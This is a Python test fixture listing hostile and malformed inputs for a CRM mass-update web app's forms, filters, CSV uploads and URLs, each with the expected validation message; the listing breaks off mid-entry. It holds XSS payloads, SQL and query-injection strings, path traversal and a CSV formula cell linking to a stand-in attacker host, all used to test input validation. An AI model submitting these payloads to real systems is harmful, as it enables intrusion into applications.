"""The hostile and malformed inputs of issue 6, one row each: every form, filter and upload.

Each ``Entry`` names the page that takes the input (a URL name), the form field or query
parameter it goes in, the value, and a fragment of the message the answer must show (as a
reader sees it, entities decoded). ``test_hostile_input.py`` sends each one as its own test
case and checks that the answer is no 5xx, shows the message, shows no markup unescaped,
and leaves every job and connection as it was (or, for the few valid but hostile values,
takes them whole: ``accepted``).

What each entry is sent to (``on``):
  NOTHING     no job: list filters, new connections, the OAuth callback, unknown URLs
  NEW_JOB     the new-job form, with the sandbox connected
  CONNECTION  the sandbox connection (a manager's forms)
  DRAFT       a draft setting the Title of three leads
  PREVIEWED   that draft, previewed
  AWAITING    that draft, previewed and waiting for a manager's approval
  FINISHED    that draft, run to completion
"""

import dataclasses
from dataclasses import dataclass
from typing import Any

NOTHING, NEW_JOB, CONNECTION = "nothing", "new job", "connection"
DRAFT, PREVIEWED, AWAITING, FINISHED = "draft", "previewed", "awaiting", "finished"
OPERATOR, MANAGER = "operator", "manager"

SCRIPT = '<script>alert("hostile")</script>'
IMG = '"><img src=x onerror=alert(1)>'
ARABIC_ID = "٧٣٨٩٦٤٠٠٠٠٠٢١٣١٢٦٤"  # 738964000002131264 in Arabic-Indic digits
FULLWIDTH_ID = "７３８９６４０００００２１３１２６４"
SUPERSCRIPT_ID = "⁷³⁸⁹⁶⁴⁰⁰⁰⁰⁰²¹³¹²⁶⁴"
MIXED_ID = "73896400000213126٤"  # one look-alike digit at the end
TWENTY_DIGITS = "99999999999999999999"
HUNDRED_THOUSAND_IDS = "\n".join(str(738964000100000000 + n) for n in range(100_000))
NOT_FOUND = "There is no such page, or it belongs to a job you cannot see"
DIGITS = "with the digits 0 to 9"


@dataclass(frozen=True)
class Upload:
    """A file as a browser uploads it."""

    name: str
    content: bytes


@dataclass(frozen=True)
class BigUpload:
    """A file of ``size`` bytes, streamed from disk rather than built in memory."""

    name: str
    size: int


@dataclass(frozen=True)
class LookAlikePk:
    """The sandbox connection's own id, written in Arabic-Indic digits."""

    def of(self, pk: int) -> str:
        return str(pk).translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"))


@dataclass(frozen=True)
class Entry:
    name: str  # the test id
    url: str  # the URL name of the form, filter or upload
    field: str  # the form field or query parameter carrying the value ("pk": the URL's id)
    value: Any
    message: str  # what the answer must say
    on: str = DRAFT
    method: str = "POST"
    by: str = OPERATOR
    data: dict = dataclasses.field(default_factory=dict)  # the rest of the form
    query: dict = dataclasses.field(default_factory=dict)  # the URL's query string
    path: str = ""  # a URL argument after the id (the way records are selected)
    # A valid value, however hostile: the job's (or new connection's) fields after it.
    accepted: dict | None = None
    # Where an accepted value is shown afterwards (URL names; the job's id is added).
    shown_on: tuple[str, ...] = ()
    # The approval policy's threshold while the entry is sent (None: as it is).
    approval_threshold: int | None = None
    # The callback answers a Connect started in this session (state "hostile-state").
    oauth_pending: bool = False


def _value(field: str, value: Any, message: str, name: str, **kwargs: Any) -> Entry:
    """A new value for one CRM field on the changes step."""
    return Entry(
        f"changes-{name}",
        "massupdate:job-changes",
        "value",
        value,
        message,
        data={"field": field, **kwargs.pop("data", {})},
        query={"field": field},
        **kwargs,
    )


def _field(field: str, message: str, name: str) -> Entry:
    """A field chosen on the changes step that a mass update cannot set."""
    return Entry(
        f"changes-field-{name}",
        "massupdate:job-changes",
        "field",
        field,
        message,
        data={"value": "x"},
        query={"field": field},
    )


def _paste(value: str, message: str, name: str) -> Entry:
    return Entry(
        f"paste-{name}", "massupdate:job-records-select", "ids", value, message, path="paste"
    )


def _csv(content: bytes, message: str, name: str, **data: str) -> Entry:
    return Entry(
        f"csv-{name}",
        "massupdate:job-records-select",
        "file",
        Upload("ids.csv", content),
        message,
        path="csv",
        data=data,
    )


def _filter(field: str, operator: str, value: str, message: str, name: str) -> Entry:
    data = {
        "filter-TOTAL_FORMS": "3",
        "filter-INITIAL_FORMS": "0",
        "filter-0-field": field,
        "filter-0-operator": operator,
    }
    return Entry(
        f"filter-{name}",
        "massupdate:job-records-select",
        "filter-0-value",
        value,
        message,
        path="filter",
        data=data,
    )


def _confirm(value: str, message: str, name: str, **kwargs: Any) -> Entry:
    # The runner adds the confirm page's own token unless the entry sends one.
    return Entry(f"confirm-{name}", "massupdate:job-confirm", "reason", value, message, **kwargs)


def _decision(decision: str, note: str, message: str, name: str, **kwargs: Any) -> Entry:
    return Entry(
        f"decision-{name}",
        "massupdate:job-approval",
        "note",
        note,
        message,
        on=kwargs.pop("on", AWAITING),
        by=MANAGER,
        data={"decision": decision},
        **kwargs,
    )


def _review(note: str, message: str, name: str, **kwargs: Any) -> Entry:
    return Entry(
        f"review-{name}",
        "audit:job-review",
        "note",
        note,
        message,
        on=kwargs.pop("on", FINISHED),
        by=MANAGER,
        **kwargs,
    )


def _get(url: str, field: str, value: str, message: str, name: str, **kwargs: Any) -> Entry:
    return Entry(name, url, field, value, message, method="GET", **kwargs)


def _audit(field: str, value: str, message: str, name: str, **kwargs: Any) -> Entry:
    return _get("audit:job-list", field, value, message, f"audit-list-{name}", **kwargs)


def _results(field: str, value: str, message: str, name: str) -> Entry:
    return _get("massupdate:job-detail", field, value, message, f"results-{name}", on=FINISHED)


def _connection(field: str, value: str, message: str, name: str, **kwargs: Any) -> Entry:
    data = {
        "name": "Hostile test org",
        "data_centre": "EU",
        "client_id": "1000.HOSTILE",
        "client_secret": "not-a-real-secret",
        "concurrency_limit": "5",
    }
    return Entry(
        f"connection-{name}",
        "zoho:connection-create",
        field,
        value,
        message,
        on=NOTHING,
        by=MANAGER,
        data={**data, **kwargs.pop("data", {})},
        **kwargs,
    )


def _callback(field: str, value: str, message: str, name: str, **kwargs: Any) -> Entry:
    """Zoho's answer to a Connect this manager started."""
    return _get(
        "zoho:oauth-callback",
        field,
        value,
        message,
        f"oauth-callback-pending-{name}",
        on=CONNECTION,
        by=MANAGER,
        oauth_pending=True,
        **kwargs,
    )


def _unknown_id(url: str, value: str, name: str, **kwargs: Any) -> Entry:
    method = kwargs.pop("method", "GET")
    return Entry(f"url-{name}", url, "pk", value, NOT_FOUND, on=NOTHING, method=method, **kwargs)


WHOLE = "Enter a whole number, like 42."
NUMBER = "Enter a number, like 1250 or 1250.50."
DATE = "Enter a real date as YYYY-MM-DD, like 2026-11-26."
DATETIME = "Enter a real date and time as YYYY-MM-DDTHH:MM"
NOT_MASS = "The field you chose can't be set by a mass update"
NO_IDS = "No record IDs found in what you pasted."
NULL = "Null characters are not allowed."
BAD_PAGE = "There is no such page; the first page is shown."
NOT_UTF8 = "The file is not UTF-8 text (save it as CSV UTF-8)."
BINARY = "The file is not a CSV text file (it contains binary data)."

CORPUS: list[Entry] = [
    # --- Step 1: the new job (connection and module) -------------------------------------
    Entry("new-module-empty", "massupdate:job-new", "module", "", "Choose a module.", on=NEW_JOB),
    Entry(
        "new-module-script",
        "massupdate:job-new",
        "module",
        SCRIPT,
        "Choose one of the modules this connection offers.",
        on=NEW_JOB,
    ),
    Entry(
        "new-module-too-long",
        "massupdate:job-new",
        "module",
        "Leads" * 21,
        "Ensure this value has at most 100 characters (it has 105).",
        on=NEW_JOB,
    ),
    Entry("new-module-nul", "massupdate:job-new", "module", "Leads\x00", NULL, on=NEW_JOB),
    Entry(
        "new-connection-not-a-number",
        "massupdate:job-new",
        "connection",
        "1; drop table",
        "Choose one of the connected CRMs.",
        on=NEW_JOB,
        data={"module": "Leads"},
    ),
    Entry(
        "new-connection-20-digits",
        "massupdate:job-new",
        "connection",
        TWENTY_DIGITS,
        "Choose one of the connected CRMs.",
        on=NEW_JOB,
        data={"module": "Leads"},
    ),
    Entry(
        "new-connection-arabic-digits",
        "massupdate:job-new",
        "connection",
        LookAlikePk(),
        "Choose one of the connected CRMs.",
        on=NEW_JOB,
        data={"module": "Leads"},
    ),
    Entry(
        "new-connection-negative",
        "massupdate:job-new",
        "connection",
        "-1",
        "Choose one of the connected CRMs.",
        on=NEW_JOB,
        data={"module": "Leads"},
    ),
    Entry(
        "refresh-connection-script",
        "massupdate:modules-refresh",
        "connection",
        SCRIPT,
        "Choose a connection to refresh.",
        on=NEW_JOB,
    ),
    # --- Step 2: the changes, per field type ----------------------------------------------
    _field("Email", NOT_MASS, "email"),
    _field("Description", NOT_MASS, "textarea"),
    _field("Owner", NOT_MASS, "ownerlookup"),
    _field("Referred_By", NOT_MASS, "lookup"),
    _field("Lead_No", NOT_MASS, "autonumber"),
    _field(SCRIPT, NOT_MASS, "script"),
    _field("Designation\x00", NOT_MASS, "nul"),
    _field("../" * 40, NOT_MASS, "traversal"),
    _value("Designation", "x" * 101, "At most 100 characters (this has 101).", "text-too-long"),
    _value("Designation", "Chief\x00Officer", NULL, "text-nul"),
    _value(
        "Designation",
        " \t\r\n ",
        "Enter a value, or tick “Clear this field” to empty it.",
        "text-only-whitespace",
    ),
    _value(
        "Designation",
        SCRIPT + "x" * 100,
        "At most 100 characters (this has 133).",
        "text-script-too-long",
    ),
    _value(
        "Designation",
        SCRIPT,
        SCRIPT,
        "text-script",
        accepted={
            "status": "draft",
            "changes": [{"field": "Designation", "value": SCRIPT, "mode": ""}],
        },
        shown_on=("massupdate:job-changes", "massupdate:job-detail", "audit:job-detail"),
    ),
    _value(
        "Designation",
        IMG,
        IMG,
        "text-img-onerror",
        accepted={"changes": [{"field": "Designation", "value": IMG, "mode": ""}]},
    ),
    _value("Skype_ID", "s" * 51, "At most 50 characters (this has 51).", "text-50-too-long"),
    _value("Mobile", "+1 " + "5" * 28, "At most 30 characters (this has 31).", "phone-too-long"),
    _value(
        "Website",
        "https://" + "w" * 248,
        "At most 255 characters (this has 256).",
        "website-too-long",
    ),
    _value(
        "Designation",
        "Chief",
        "Either enter a value or tick “Clear this field”, not both.",
        "text-value-and-clear",
        data={"clear": "on"},
    ),
    _value("No_of_Employees", str(2**31), "At most 999,999,999.", "integer-2**31"),
    _value("No_of_Employees", str(-(2**31) - 1), "At least -999,999,999.", "integer-minus-2**31"),
    _value("No_of_Employees", "9" * 5000, WHOLE, "integer-5000-digits"),
    _value("No_of_Employees", "12.5", WHOLE, "integer-decimal"),
    _value("No_of_Employees", "1e3", WHOLE, "integer-exponent"),
    _value("No_of_Employees", "0x2A", WHOLE, "integer-hex"),
    _value("No_of_Employees", "forty-two", WHOLE, "integer-words"),
    _value("No_of_Employees", "٤٢", DIGITS, "integer-arabic-indic"),
    _value("No_of_Employees", "４２", DIGITS, "integer-fullwidth"),
    _value("No_of_Employees", "4²", DIGITS, "integer-superscript"),
    _value("DUNS_Number", str(2**63), "At most 999,999,999,999,999,999.", "bigint-2**63"),
    _value("DUNS_Number", TWENTY_DIGITS, "At most 999,999,999,999,999,999.", "bigint-20-digits"),
    _value("DUNS_Number", "١٢٣٤٥٦٧٨٩", DIGITS, "bigint-arabic-indic"),
    _value(
        "Annual_Revenue", "1250.505", "At most 2 decimal places (this has 3).", "currency-3-places"
    ),
    _value("Annual_Revenue", "NaN", NUMBER, "currency-nan"),
    _value("Annual_Revenue", "Infinity", NUMBER, "currency-infinity"),
    _value("Annual_Revenue", "-inf", NUMBER, "currency-minus-infinity"),
    _value(
        "Annual_Revenue",
        "1e309",
        "At most 16 digits before the decimal point (this has 310).",
        "currency-1e309",
    ),
    _value(
        "Annual_Revenue",
        "1e999999999",
        "At most 16 digits before the decimal point (this has 1000000000).",
        "currency-1e999999999",
    ),
    _value(
        "Annual_Revenue", "1e-400", "At most 2 decimal places (this has 400).", "currency-1e-400"
    ),
    _value("Annual_Revenue", "1,250.50", NUMBER, "currency-thousands-comma"),
    _value("Annual_Revenue", "€1250", NUMBER, "currency-symbol"),
    _value("Annual_Revenue", "١٢٥٠٫٥٠", DIGITS, "currency-arabic-indic"),
    _value(
        "Lead_Score",
        "12345678901234.56",
        "At most 15 digits in all, or the CRM would round the number (this has 16).",
        "double-16-digits",
    ),
    _value(
        "Conversion_Chance",
        "123456",
        "At most 5 digits before the decimal point (this has 6).",
        "percent-6-digits",
    ),
    _value("Conversion_Chance", "50%", NUMBER, "percent-sign"),
    _value("Next_Follow_Up", "2026-02-30", DATE, "date-february-30"),
    _value("Next_Follow_Up", "0000-01-01", DATE, "date-year-0"),
    _value("Next_Follow_Up", "99999-01-01", DATE, "date-year-99999"),
    _value("Next_Follow_Up", "2026-13-01", DATE, "date-month-13"),
    _value("Next_Follow_Up", "26/11/2026", DATE, "date-day-first"),
    _value("Next_Follow_Up", "2026-11-26T10:30", DATE, "date-with-time"),
    _value("Next_Follow_Up", "٢٠٢٦-١١-٢٦", DIGITS, "date-arabic-indic"),
    _value("Last_Contacted_At", "2026-11-26T25:00", DATETIME, "datetime-hour-25"),
    _value("Last_Contacted_At", "2026-02-30T10:00", DATETIME, "datetime-february-30"),
    _value("Last_Contacted_At", "0000-01-01T00:00", DATETIME, "datetime-year-0"),
    _value("Last_Contacted_At", "2026-11-26T10:30+99:00", DATETIME, "datetime-offset-99h"),
    _value(
        "Last_Contacted_At",
        "9999-12-31T23:59-12:00",
        "out of range",
        "datetime-beyond-9999-in-utc",
    ),
    _value(
        "Last_Contacted_At",
        "0001-01-01T00:00+14:00",
        "out of range",
        "datetime-before-year-1-in-utc",
    ),
    _value("Last_Contacted_At", "yesterday", DATETIME, "datetime-words"),
    _value("Email_Opt_Out", "maybe", "Choose Yes or No.", "boolean-maybe"),
    _value("Email_Opt_Out", "TRUE", "Choose Yes or No.", "boolean-upper-case"),
    _value("Email_Opt_Out", "", "Choose Yes or No.", "boolean-empty"),
    _value(
        "Lead_Status",
        SCRIPT,
        f"Choose one of the field's values (“{SCRIPT}” is not one).",
        "picklist-script",
    ),
    _value(
        "Lead_Status",
        "-None-",
        "Choose one of the field's values (“-None-” is not one).",
        "picklist-none-marker",
    ),
    _value(
        "Product_Interest",
        ["CRM", IMG],
        f"Choose one of the field's values (“{IMG}” is not one).",
        "multiselect-markup",
        data={"mode": "add"},
    ),
    _value(
        "Product_Interest",
        ["CRM"],
        "Select a valid choice. merge is not one of the available choices.",
        "multiselect-unknown-mode",
        data={"mode": "merge"},
    ),
    _value(
        "Product_Interest",
        # 900 fields: Django answers more than 1,000 with a bare "Bad Request (400)".
        ["CRM"] * 900,
        "Too many values: at most 2000 characters together (this has 3599).",
        "multiselect-900-times",
        data={"mode": "replace"},
    ),
    Entry(
        "remove-change-not-among-them",
        "massupdate:job-change-remove",
        "field",
        SCRIPT,
        "That field is not among the job's changes.",
    ),
    Entry(
        "remove-change-empty",
        "massupdate:job-change-remove",
        "field",
        "",
        "Choose a change to remove.",
    ),
    # --- Step 3: the records: pasted IDs ---------------------------------------------------
    _paste("", "This field is required.", "empty"),
    _paste(" \n\t,;| ", NO_IDS, "only-separators"),
    _paste("hello, world; 12345", NO_IDS, "words-and-short-numbers"),
    _paste(TWENTY_DIGITS, NO_IDS, "20-digits"),
    _paste("0738964000002131264", NO_IDS, "leading-zero"),
    _paste("-738964000002131264", NO_IDS, "negative"),
    _paste("7.38964000002131264e17", NO_IDS, "exponent"),
    _paste(ARABIC_ID, NO_IDS, "arabic-indic-digits"),
    _paste(FULLWIDTH_ID, NO_IDS, "fullwidth-digits"),
    _paste(SUPERSCRIPT_ID, NO_IDS, "superscript-digits"),
    _paste(MIXED_ID, NO_IDS, "one-look-alike-digit"),
    _paste("1 OR 1=1; DROP TABLE massupdate_job; --", NO_IDS, "sql"),
    _paste(SCRIPT, NO_IDS, "script"),
    _paste("738964000002131264\x00", NULL, "nul"),
    _paste(
        HUNDRED_THOUSAND_IDS,
        "You selected 100,000 records; a job takes at most 50,000. Split the list",
        "100000-ids",
    ),
    # --- Step 3: the records: CSV files ------------------------------------------------------
    _csv(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01", BINARY, "png"),
    _csv(bytes(range(256)) * 64, BINARY, "binary-garbage"),
    _csv(b"\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc" * 50, NOT_UTF8, "invalid-utf8"),
    _csv("Id\n738964000002131264\n".encode("utf-16"), NOT_UTF8, "utf16-with-bom"),
    _csv("Id\n738964000002131264\n".encode("utf-16-le"), BINARY, "utf16-without-bom"),
    _csv(b"Id\n738964000002131264\x00\n", BINARY, "nul-byte"),
    _csv("Id;Société\n738964000002131264;Zylker\n".encode("latin-1"), NOT_UTF8, "latin-1"),
    _csv(b"", "The submitted file is empty.", "empty-file"),
    _csv(b" ;;\r\n,,\r\n", "The file is empty.", "only-separators"),
    _csv(
        b"Record Id,Company\n", "The file has a header row but no records under it.", "header-only"
    ),
    _csv(
        b"Name,Company\nZylker,Acme\nNadia,Globex\n",
        "No column looks like record IDs; its columns are: “Name”, “Company”.",
        "no-id-column",
    ),
    _csv(
        b'Id\n=HYPERLINK("http://evil.example","x")\n+1+1\n',
        "No record IDs found in the column “Id”.",
        "formulas-instead-of-ids",
    ),
    _csv(
        b"Id\n" + b"1" * 200_000 + b"\n",
        "The file could not be read as CSV (field larger than field limit",
        "cell-of-200000-characters",
    ),
    _csv(
        b"Record Id\n738964000002131264\n",
        f"The file has no column “{SCRIPT}”.",
        "id-column-script",
        id_column=SCRIPT,
    ),
    _csv(
        b"Record Id\n738964000002131264\n",
        "Ensure this value has at most 200 characters (it has 201).",
        "id-column-too-long",
        id_column="x" * 201,
    ),
    _csv(
        ("Id\n" + HUNDRED_THOUSAND_IDS + "\n").encode(),
        "You selected 100,000 records; a job takes at most 50,000.",
        "100000-ids",
    ),
    Entry(
        "csv-50-mb",
        "massupdate:job-records-select",
        "file",
        BigUpload("ids.csv", 50 * 1024 * 1024),
        "The file is too large (50.0 MB): at most 20 MB is accepted.",
        path="csv",
    ),
    Entry(
        "csv-script-file-name",
        "massupdate:job-records-select",
        "file",
        Upload(f"{SCRIPT}.csv", b"Id\n738964000002131264\n"),
        "CSV script>.csv, column Id",  # Django keeps the name's last part after "/"
        path="csv",
        accepted={"record_count": 1, "selection": "csv"},
        shown_on=("massupdate:job-records", "audit:job-detail"),
    ),
    Entry(
        "records-unknown-way",
        "massupdate:job-records-select",
        "ids",
        "738964000002131264",
        "There is no such way to select records",
        path="sql",
    ),
    # --- Step 3: the records: filters and views ---------------------------------------------
    _filter("Designation", "equals", "", "Give a value to compare with.", "empty-value"),
    _filter(
        "Designation", "like", "CEO", "Select a valid choice. like is not one", "operator-like"
    ),
    _filter(SCRIPT, "equals", "x", "Select a valid choice.", "field-script"),
    _filter(
        "Designation",
        "greater_than",
        "CEO",
        "Title cannot be compared with “is greater than”",
        "text-greater-than",
    ),
    _filter(
        "No_of_Employees",
        "greater_than",
        "many",
        "No. of Employees needs a number; “many” is not one.",
        "number-words",
    ),
    _filter(
        "No_of_Employees",
        "equals",
        "NaN",
        "No. of Employees needs a number; “NaN” is not one.",
        "number-nan",
    ),
    _filter(
        "No_of_Employees",
        "less_than",
        "1e999999999",
        "No. of Employees needs a number of at most",
        "number-1e999999999",
    ),
    _filter(
        "No_of_Employees",
        "greater_than",
        "1e-999999999",
        "No. of Employees needs a number of at most",
        "number-1e-999999999",
    ),
    _filter(
        "No_of_Employees",
        "equals",
        "٤٢",
        "No. of Employees needs a number; “٤٢” is not one.",
        "number-arabic-indic",
    ),
    _filter(
        "Next_Follow_Up",
        "equals",
        "2026-02-30",
        "Next Follow-Up needs a date as YYYY-MM-DD; “2026-02-30” is not one.",
        "date-february-30",
    ),
    _filter(
        "Next_Follow_Up",
        "equals",
        "99999-01-01",
        "Next Follow-Up needs a date as YYYY-MM-DD; “99999-01-01” is not one.",
        "date-year-99999",
    ),
    _filter(
        "Last_Contacted_At",
        "greater_than",
        "yesterday",
        "Last Contacted At needs a date and time such as 2025-03-31T17:30:00",
        "datetime-words",
    ),
    _filter(
        "Email_Opt_Out",
        "equals",
        "maybe",
        "Email Opt Out is true or false; “maybe” is neither.",
        "boolean-maybe",
    ),
    _filter(
        "Owner",
        "equals",
        "738964000000291009",
        "Select a valid choice. Owner is not one of the available choices.",
        "lookup-field",
    ),
    _filter(
        "No_of_Employees",
        "between",
        "5",
        "Give two values, the lowest first, for No. of Employees.",
        "between-one-value",
    ),
    _filter(
        "Designation",
        "in",
        ",".join(f"t{n}" for n in range(51)),
        "“is one of” takes at most 50 values.",
        "in-51-values",
    ),
    _filter(
        "Designation",
        "equals",
        "x' or Designation != 'x",
        "No records match the filter.",
        "coql-injection",
    ),
    Entry(
        "filter-management-form-tampered",
        "massupdate:job-records-select",
        "filter-TOTAL_FORMS",
        "abc",
        "(Hidden field TOTAL_FORMS) Enter a whole number.",
        path="filter",
    ),
    Entry(
        "filter-1000-rows",
        "massupdate:job-records-select",
        "filter-TOTAL_FORMS",
        "1000",
        "Please submit at most 5 forms.",
        path="filter",
        data={"filter-INITIAL_FORMS": "0"},
    ),
    Entry(
        "view-unknown",
        "massupdate:job-records-select",
        "cvid",
        TWENTY_DIGITS,
        "Choose one of the module's custom views.",
        path="view",
    ),
    Entry(
        "view-arabic-indic",
        "massupdate:job-records-select",
        "cvid",
        ARABIC_ID,
        "Choose one of the module's custom views.",
        path="view",
    ),
    # --- Steps 4 and 5: preview, include, confirm ------------------------------------------
    Entry(
        "include-on-a-draft",
        "massupdate:job-include",
        "include",
        SCRIPT,
        "Only a previewed job's selection can be adjusted.",
    ),
    Entry(
        "preview-a-finished-job",
        "massupdate:job-preview",
        "show",
        SCRIPT,
        "it can't be previewed again",
        on=FINISHED,
    ),
    _get(
        "massupdate:job-preview",
        "show",
        SCRIPT,
        "Choose one of the listed groups of records.",
        "preview-show-script",
        on=PREVIEWED,
    ),
    _get(
        "massupdate:job-preview",
        "q",
        TWENTY_DIGITS * 2,
        "A record ID is a number of at most 19 digits",
        "preview-q-40-digits",
        on=PREVIEWED,
    ),
    _get("massupdate:job-preview", "page", "abc", BAD_PAGE, "preview-page-abc", on=PREVIEWED),
    _get("massupdate:job-preview", "page", "-1", BAD_PAGE, "preview-page-negative", on=PREVIEWED),
    _confirm("", "This field is required.", "reason-empty", on=PREVIEWED),
    _confirm(
        "ok",
        "Ensure this value has at least 5 characters (it has 2).",
        "reason-short",
        on=PREVIEWED,
    ),
    _confirm(
        "x" * 2001,
        "Ensure this value has at most 2000 characters (it has 2001).",
        "reason-too-long",
        on=PREVIEWED,
    ),
    _confirm("Because\x00", NULL, "reason-nul", on=PREVIEWED),
    _confirm(
        "\u200b\u200b\u200b\u200b\u200b\u200b",
        "Write the reason in words.",
        "reason-invisible",
        on=PREVIEWED,
    ),
    _confirm("..... -----", "Write the reason in words.", "reason-punctuation", on=PREVIEWED),
    _confirm(
        "Met them at the expo",
        "This form is damaged: reload the page and confirm again.",
        "token-script",
        on=PREVIEWED,
        data={"token": SCRIPT},
    ),
    _confirm(
        "Met them at the expo",
        "made for an earlier preview, so nothing was submitted",
        "token-forged",
        on=PREVIEWED,
        data={"token": "00000000-0000-4000-8000-000000000000"},
    ),
    _confirm(
        "Met them at the expo",
        "Preview the job before confirming it.",
        "a-draft",
        on=DRAFT,
        data={"token": "00000000-0000-4000-8000-000000000000"},
    ),
    _confirm(
        SCRIPT + " because of the expo",
        SCRIPT + " because of the expo",
        "reason-script",
        on=PREVIEWED,
        accepted={"status": "completed", "reason": SCRIPT + " because of the expo"},
        shown_on=("massupdate:job-detail", "audit:job-detail"),
    ),
    _confirm(
        IMG + " because of the fair",
        IMG + " because of the fair",
        "reason-img-needing-approval",
        on=PREVIEWED,
        approval_threshold=1,
        accepted={"status": "awaiting_approval", "reason": IMG + " because of the fair"},
        shown_on=("massupdate:job-approval", "massupdate:job-detail", "audit:job-detail"),
    ),
    # --- Steps 6 and 7: cancel, retry, revert, results ---------------------------------------
    Entry(
        "cancel-a-draft",
        "massupdate:job-cancel",
        "reason",
        SCRIPT,
        "The job is not running; there is nothing to cancel.",
    ),
    Entry(
        "retry-a-previewed-job",
        "massupdate:job-retry",
        "reason",
        SCRIPT,
        "Only a finished job can be retried.",
        on=PREVIEWED,
    ),
    Entry(
        "retry-without-failures",
        "massupdate:job-retry",
        "reason",
        SCRIPT,
        "No failure of this job can be retried.",
        on=FINISHED,
    ),
    Entry(
        "revert-a-draft",
        "massupdate:job-revert",
        "reason",
        SCRIPT,
        "Only a finished job can be reverted.",
    ),
    _results("code", SCRIPT, f"No record of this job has the outcome “{SCRIPT}”.", "code-script"),
    _results("code", "C" * 61, "No record of this job has the outcome", "code-too-long"),
    _results("q", TWENTY_DIGITS * 2, "A record ID is a number of at most 19 digits", "q-40-digits"),
    _results("q", SCRIPT, "A record ID is a number of at most 19 digits", "q-script"),
    _results("q", ARABIC_ID, "A record ID is a number of at most 19 digits", "q-arabic-indic"),
    _results("page", "abc", BAD_PAGE, "page-abc"),
    _results("page", "-1", BAD_PAGE, "page-negative"),
    _results("page", "0", BAD_PAGE, "page-zero"),
    _results("page", "1" * 5000, BAD_PAGE, "page-5000-digits"),
    _results("page", str(10**20), "3 rows", "page-10**20"),
    _results("page", "²", BAD_PAGE, "page-superscript"),
    _get(
        "massupdate:job-export",
        "failures",
        SCRIPT,
        "record_id,status,code,message",
        "export-failures-script",
        on=FINISHED,
    ),
    _get(
        "massupdate:job-list",
        "status",
        "<b>done</b>",
        "Select a valid choice. <b>done</b> is not one of the available choices.",
        "job-list-status-markup",
    ),
    _get("massupdate:job-list", "page", "abc", BAD_PAGE, "job-list-page-abc"),
    # --- Approvals (a manager's decision on another's job) -------------------------------------
    _decision(
        "maybe", "ok", "Select a valid choice. maybe is not one of the available choices.", "maybe"
    ),
    _decision("", "ok", "This field is required.", "empty"),
    _decision(
        "reject",
        "   ",
        "Say why the job is rejected: its owner reads the note.",
        "reject-without-note",
    ),
    _decision(
        "reject",
        "x" * 2001,
        "Ensure this value has at most 2000 characters (it has 2001).",
        "note-too-long",
    ),
    _decision("reject", "No\x00", NULL, "note-nul"),
    _decision("approve", "Fine", "This job is not awaiting approval.", "a-draft", on=DRAFT),
    _decision(
        "reject",
        SCRIPT,
        SCRIPT,
        "reject-note-script",
        accepted={"status": "rejected", "decision_note": SCRIPT},
        shown_on=("massupdate:job-detail", "massupdate:job-approval", "audit:job-detail"),
    ),
    _decision(
        "approve",
        IMG,
        IMG,
        "approve-note-img",
        accepted={"status": "completed", "decision_note": IMG},
        shown_on=("massupdate:job-detail", "audit:job-detail"),
    ),
    _get(
        "massupdate:approvals",
        "page",
        "abc",
        BAD_PAGE,
        "approvals-page-abc",
        by=MANAGER,
        on=AWAITING,
    ),
    _get(
        "massupdate:job-approval",
        "page",
        "-1",
        BAD_PAGE,
        "approval-page-negative",
        by=MANAGER,
        on=AWAITING,
    ),
    # --- Audit: review notes -----------------------------------------------------------------
    _review("", "This field is required.", "empty"),
    _review("x" * 2001, "Ensure this value has at most 2000 characters (it has 2001).", "too-long"),
    _review("Checked\x00", NULL, "nul"),
    _review("Checked", "Only a finished job can be marked reviewed.", "a-draft", on=DRAFT),
    _review(
        SCRIPT,
        SCRIPT,
        "script",
        accepted={"review_note": SCRIPT},
        shown_on=("audit:job-detail",),
    ),
    # --- Audit: the job list's filters, its exports and the record search ----------------------
    _audit("created_from", "2026-02-30", "Enter a valid date.", "date-february-30"),
    _audit("created_from", "0000-01-01", "Enter a valid date.", "date-year-0"),
    _audit("created_to", "99999-01-01", "Enter a valid date.", "date-year-99999"),
    _audit(
        "created_to",
        "9999-12-31",
        "Give a date between 2000-01-01 and 2999-12-31.",
        "date-9999-12-31",
    ),
    _audit(
        "created_from",
        "0001-01-01",
        "Give a date between 2000-01-01 and 2999-12-31.",
        "date-year-1",
    ),
    _audit("created_from", "٢٠٢٦-٠١-٠١", DIGITS, "date-arabic-indic"),
    _audit(
        "created_from",
        "2026-12-01",
        "The date range ends before it starts.",
        "date-range-reversed",
        data={"created_to": "2026-01-01"},
    ),
    _audit("owner", SCRIPT, "Select a valid choice.", "person-script"),
    _audit("owner", "olivia\x00", NULL, "person-nul"),
    _audit("module", "Leads' OR 1=1", "Select a valid choice.", "module-sql"),
    _audit(
        "field",
        "Lead Status<script>",
        "An API name has only letters, digits and _.",
        "field-script",
    ),
    _audit("outcome", SCRIPT, "A code has only letters, digits and _.", "code-script"),
    _audit(
        "outcome",
        "C" * 61,
        "Ensure this value has at most 60 characters (it has 61).",
        "code-too-long",
    ),
    _audit(
        "status",
        "done",
        "Select a valid choice. done is not one of the available choices.",
        "status-unknown",
    ),
    _audit("kind", SCRIPT, "Select a valid choice.", "kind-script"),
    _audit("reviewed", "maybe", "Select a valid choice. maybe is not one", "reviewed-maybe"),
    _audit(
        "q", "x" * 201, "Ensure this value has at most 200 characters (it has 201).", "q-too-long"
    ),
    _audit("q", "³", "No job matches.", "q-superscript-digit"),
    _audit("q", "#١", "No job matches.", "q-arabic-indic-job-number"),
    _audit("q", "%_%", "No job matches.", "q-like-wildcards"),
    _audit("q", "a\x00b", NULL, "q-nul"),
    _audit("page", "abc", BAD_PAGE, "page-abc"),
    _audit("page", str(10**20), "No job matches.", "page-10**20", data={"q": "no such reason"}),
    _get(
        "audit:job-list-export",
        "format",
        "xlsx",
        "Ask for format=csv or format=json.",
        "audit-export-format-xlsx",
    ),
    _get(
        "audit:job-list-export",
        "created_from",
        "2026-02-30",
        "id,kind,status,module",
        "audit-export-bad-filter",
        data={"format": "csv"},
    ),
    _get(
        "audit:record-search",
        "record_id",
        "abc",
        "A record ID is a number, like 1306462000000496025.",
        "record-search-letters",
    ),
    _get(
        "audit:record-search",
        "record_id",
        ARABIC_ID,
        "A record ID is a number, like 1306462000000496025.",
        "record-search-arabic-indic",
    ),
    _get(
        "audit:record-search",
        "record_id",
        "9" * 31,
        "Ensure this value has at most 30 characters (it has 31).",
        "record-search-31-digits",
    ),
    _get("audit:record-search", "record_id", "", "This field is required.", "record-search-empty"),
    _get(
        "audit:record-search",
        "page",
        "abc",
